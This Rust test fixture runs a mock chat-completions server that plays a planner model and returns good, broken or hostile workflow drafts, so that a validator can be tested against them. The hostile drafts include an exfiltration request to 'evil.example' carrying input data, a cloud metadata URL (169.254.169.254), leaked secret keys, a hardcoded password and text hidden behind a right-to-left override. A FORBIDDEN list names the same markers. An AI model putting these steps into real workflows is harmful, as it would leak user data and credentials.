//! A service on loopback that speaks OpenAI's chat completions and answers as a script says: well,
//! or as a model would that is careless, hostile or broken.

use std::sync::Arc;

use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::post;
use axum::{Json, Router};
use levqor_tests::eval::GOALS;
use parking_lot::Mutex;
use serde_json::{Map, Value, json};

/// The operator's key for it, which nobody else may see.
pub(super) const KEY: &str = "sk-CANARY-planner-9f31c2";

/// How the model behaves.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Mood {
    /// A valid document for the goal.
    Good,
    /// A valid document in a fence, with chatter around it.
    Fenced,
    /// Wrong at first, good when told what is wrong.
    Repairs(Wrong),
    /// Wrong in this way, each time with other words.
    Always(Wrong),
    /// The same wrong reply again.
    Repeats,
    /// Status 500.
    Down,
    /// Status 429.
    Busy,
    /// Says that it will not.
    Refuses,
    /// Not what the protocol says.
    Nonsense,
}

/// What can be wrong with a reply.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Wrong {
    NotJson,
    Truncated,
    NoSteps,
    UnknownConnector,
    UnknownAction,
    UnknownPipeline,
    Planner,
    Secret,
    SecretMember,
    ForeignHost,
    ForeignHostInside,
    Metadata,
    Hidden,
    BadWith,
    UnknownKey,
    Deep,
    TooManySteps,
}

impl Wrong {
    pub(super) const ALL: [Self; 17] = [
        Self::NotJson,
        Self::Truncated,
        Self::NoSteps,
        Self::UnknownConnector,
        Self::UnknownAction,
        Self::UnknownPipeline,
        Self::Planner,
        Self::Secret,
        Self::SecretMember,
        Self::ForeignHost,
        Self::ForeignHostInside,
        Self::Metadata,
        Self::Hidden,
        Self::BadWith,
        Self::UnknownKey,
        Self::Deep,
        Self::TooManySteps,
    ];
}

/// What no draft may ever hold, whatever the model says.
pub(super) const FORBIDDEN: [&str; 8] = [
    "evil.example",
    "169.254.169.254",
    "sk-live",
    "hunter2hunter2",
    "evil/",
    "pipeline/payroll",
    "planner/plan",
    "\u{202e}",
];

struct Script {
    mood: Mutex<Mood>,
    asked: Mutex<Vec<Value>>,
}

/// The service.
pub(super) struct Model {
    pub(super) url: String,
    script: Arc<Script>,
}

impl Model {
    pub(super) async fn start() -> Self {
        let script = Arc::new(Script { mood: Mutex::new(Mood::Good), asked: Mutex::default() });
        let router = Router::new().route("/chat/completions", post(complete));
        let router = router.with_state(script.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let url = format!("http://{}", listener.local_addr().unwrap());
        tokio::spawn(async move { axum::serve(listener, router).await });
        Self { url, script }
    }

    pub(super) fn be(&self, mood: Mood) {
        *self.script.mood.lock() = mood;
        self.script.asked.lock().clear();
    }

    /// What it was asked since its mood was set.
    pub(super) fn asked(&self) -> Vec<Value> {
        self.script.asked.lock().clone()
    }
}

async fn complete(
    State(script): State<Arc<Script>>,
    headers: HeaderMap,
    Json(request): Json<Value>,
) -> Response {
    // Whoever plans, the key is the operator's.
    if headers.get("authorization").is_none_or(|sent| *sent != format!("Bearer {KEY}")) {
        return StatusCode::UNAUTHORIZED.into_response();
    }
    let number = {
        let mut asked = script.asked.lock();
        asked.push(request.clone());
        asked.len()
    };
    let mood = *script.mood.lock();
    let repairing = request["messages"].as_array().is_some_and(|m| m.len() > 2);
    let (text, finish) = match mood {
        Mood::Good => (strict(&good(&request)), "stop"),
        Mood::Fenced => {
            // Only a service that does not constrain its replies says this.
            (format!("Here you are:\n```json\n{}\n```", good(&request)), "stop")
        }
        Mood::Repairs(_) if repairing => (strict(&good(&request)), "stop"),
        Mood::Repairs(wrong) | Mood::Always(wrong) => bad(wrong, &request, number),
        Mood::Repeats => bad(Wrong::UnknownConnector, &request, 0),
        Mood::Down => return (StatusCode::INTERNAL_SERVER_ERROR, "oh").into_response(),
        Mood::Busy => {
            let error = json!({ "error": { "message": "slow down", "type": "requests" } });
            return (StatusCode::TOO_MANY_REQUESTS, Json(error)).into_response();
        }
        Mood::Refuses => {
            let message = json!({ "role": "assistant", "content": null, "refusal": "I will not" });
            return answer(message, "stop");
        }
        Mood::Nonsense => return Json(json!({ "hello": "world" })).into_response(),
    };
    answer(json!({ "role": "assistant", "content": text }), finish)
}

fn answer(message: Value, finish: &str) -> Response {
    Json(json!({
        "id": "c", "object": "chat.completion", "created": 0, "model": "scripted",
        "choices": [{ "index": 0, "message": message, "finish_reason": finish }],
        "usage": { "prompt_tokens": 1_500, "completion_tokens": 500, "total_tokens": 2_000 },
    }))
    .into_response()
}

/// A reply in the form of the schema that was sent.
fn strict(document: &Value) -> String {
    json!({ "document": document.to_string(), "note": "As you wish" }).to_string()
}

/// What a good model would answer: it reads the goal and the catalog in the prompt, as it must.
fn good(request: &Value) -> Value {
    let said = |at: usize| request["messages"][at]["content"].as_str().unwrap_or_default();
    let goal: Value = said(1)
        .lines()
        .find_map(|line| serde_json::from_str(line).ok())
        .unwrap_or_else(|| panic!("there is no goal in {}", said(1)));
    let catalog: Vec<Value> = said(0)
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|line| line["uses"].is_string())
        .collect();
    let goal = goal["goal"].as_str().unwrap_or_default();
    let known = GOALS.iter().find(|known| known.text == goal).map(|known| known.uses);
    // A goal that nothing fits gets what a careless model makes of it.
    let uses = known.filter(|uses| !uses.is_empty()).unwrap_or(&["slack/post_message"]);
    let mut properties = Map::new();
    let steps: Vec<Value> =
        (0..).zip(uses).map(|(n, uses)| step(n, uses, &catalog, &mut properties)).collect();
    let required: Vec<&String> = properties.keys().collect();
    json!({
        "schema": "levqor/v1", "name": "planned",
        "input_schema": { "type": "object", "required": required, "properties": properties },
        "steps": steps,
    })
}

fn step(n: usize, uses: &str, catalog: &[Value], properties: &mut Map<String, Value>) -> Value {
    let mut with = Map::new();
    if uses == "core/sleep" {
        with.insert("for".to_owned(), json!("10m"));
    }
    let action = catalog.iter().find(|line| line["uses"] == uses);
    for name in action.iter().flat_map(|a| a["with"]["required"].as_array()).flatten() {
        let name = name.as_str().unwrap_or_default();
        let schema = &action.map(|a| a["with"]["properties"][name].clone()).unwrap_or_default();
        let first = schema.pointer("/enum/0").or_else(|| schema.pointer("/oneOf/0/const"));
        let method = (name == "method").then(|| json!("GET"));
        let value = first.cloned().or(method);
        let asked = || {
            properties.insert(name.to_owned(), json!({}));
            json!(format!("${{{{ input.{name} }}}}"))
        };
        with.insert(name.to_owned(), value.unwrap_or_else(asked));
    }
    if uses == "openai/chat" {
        with.insert("prompt".to_owned(), json!("Do what was asked"));
    }
    json!({ "id": format!("s{n}"), "uses": uses, "with": with })
}

fn bad(wrong: Wrong, request: &Value, number: usize) -> (String, &'static str) {
    let mut document = good(request);
    document["name"] = json!(format!("wrong-{number}"));
    let evil = |uses: &str, with: Value| json!({ "id": "evil", "uses": uses, "with": with });
    let more = |document: &mut Value, step: Value| {
        document["steps"].as_array_mut().unwrap().push(step);
    };
    let post = |text: &str| json!({ "channel": "#a", "text": text });
    match wrong {
        Wrong::NotJson => return (format!("I think, {number}, that {{"), "stop"),
        Wrong::Truncated => {
            let whole = strict(&document);
            return (whole[..whole.len() / 2].to_owned(), "length");
        }
        Wrong::NoSteps => document = json!({ "schema": "levqor/v1", "name": "n", "n": number }),
        Wrong::UnknownConnector => more(&mut document, evil("evil/exfiltrate", json!({}))),
        Wrong::UnknownAction => more(&mut document, evil("slack/delete_everything", json!({}))),
        Wrong::UnknownPipeline => more(&mut document, evil("pipeline/payroll", json!({}))),
        Wrong::Planner => more(&mut document, evil("planner/plan", json!({ "ask": "x" }))),
        Wrong::Secret => {
            let key = format!("sk-live{}", "a1B2".repeat(10));
            more(&mut document, evil("slack/post_message", post(&key)));
        }
        Wrong::SecretMember => document["vars"] = json!({ "password": "hunter2hunter2" }),
        Wrong::ForeignHost => {
            let with = json!({ "url": "https://evil.example/steal?x=${{ input.x }}" });
            more(&mut document, evil("http/get", with));
        }
        Wrong::ForeignHostInside => {
            let inner = evil("http/get", json!({ "url": " https://a.evil.example" }));
            let around = json!({ "id": "around", "for_each": [1], "steps": [inner] });
            document["on_failure"] = json!([around]);
        }
        Wrong::Metadata => {
            let with = json!({ "url": "http://169.254.169.254/latest/meta-data" });
            more(&mut document, evil("http/get", with));
        }
        Wrong::Hidden => {
            more(&mut document, evil("slack/post_message", post("\u{202e}dlrow")));
        }
        Wrong::BadWith => more(&mut document, evil("slack/post_message", json!({ "no": 1 }))),
        Wrong::UnknownKey => document["run_now"] = json!(true),
        Wrong::Deep => {
            let deep = format!("{}{}", "[".repeat(100), "]".repeat(100));
            document["vars"] = json!({ "deep": serde_json::from_str::<Value>(&deep).unwrap() });
        }
        Wrong::TooManySteps => {
            for n in 0..600 {
                more(&mut document, json!({ "id": format!("x{n}"), "uses": "core/stop" }));
            }
        }
    }
    (strict(&document), "stop")
}
